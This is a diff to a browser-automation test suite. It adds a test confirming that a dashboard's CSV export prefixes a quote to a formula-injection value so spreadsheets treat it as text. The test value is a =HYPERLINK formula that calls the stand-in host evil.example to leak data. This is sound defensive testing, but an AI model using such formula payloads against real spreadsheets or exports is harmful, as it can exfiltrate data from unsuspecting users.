@@ -82,3 +82,18 @@ def test_an_unknown_batch_is_a_page_in_words(page, server):
     assert response.status == 404
     expect(page.get_by_role("heading", name="Not found")).to_be_visible()
     expect(page.get_by_role("alert")).to_contain_text("There is no batch 'b_NOSUCH'.")
+
+
+HYPERLINK_MEMBER = '=HYPERLINK("http://evil.example/?leak","Invoice")@evil.example'
+
+
+def test_an_export_with_a_formula_member_id_opens_as_text(page, server, tmp_path):
+    batch = server.api.batch(3, identifier="Formula export")
+    server.api.claim(batch, HYPERLINK_MEMBER)
+    page.goto(f"/dashboard/batches/{batch['id']}/vouchers?claimed=yes")
+    with page.expect_download() as info:
+        page.get_by_role("link", name="Export CSV (these filters)").click()
+    saved = tmp_path / "formula.csv"
+    info.value.save_as(saved)
+    [row] = list(csv.DictReader(saved.read_text().splitlines()))
+    assert row["member_id"] == "'" + HYPERLINK_MEMBER.casefold()  # a quote first: a spreadsheet shows it as text
